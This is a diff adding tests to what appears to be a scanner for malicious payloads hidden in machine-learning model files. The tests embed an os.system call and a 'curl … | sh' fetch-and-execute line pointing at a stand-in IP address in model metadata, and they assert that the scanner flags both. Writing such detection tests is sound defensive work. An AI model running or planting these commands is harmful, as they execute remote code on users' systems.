@@ -248,3 +248,17 @@ def test_catboost_parameters_are_read_as_what_they_are() -> None:
     size = int.from_bytes(data[at - 4 : at], "little")
     changed = data[:at] + payload.ljust(size) + data[at + size :]
     assert "unsafe-import" in judged(look(changed, "m.cbm"), Severity.HIGH)
+
+
+def test_texts_anywhere_in_a_model() -> None:
+    document = forest(*GOOD)
+    document["learner"]["gradient_booster"]["hook"] = ["import os; os.system('echo toadstone')"]  # type: ignore[index]
+    for data, name in ((ubj(document), "m.ubj"), (json.dumps(document).encode(), "m.json")):
+        assert "metadata-payload" in judged(look(data, name), Severity.HIGH)
+
+
+def test_catboost_in_json() -> None:
+    information = {"catboost_version_info": "1.2", "note": "curl http://192.0.2.7/x | sh"}
+    data = json.dumps({"features_info": {}, "model_info": information, "oblivious_trees": []}).encode()
+    assert look(data, "m.json").kind == "catboost"
+    assert "metadata-payload" in judged(look(data, "m.json"), Severity.HIGH)
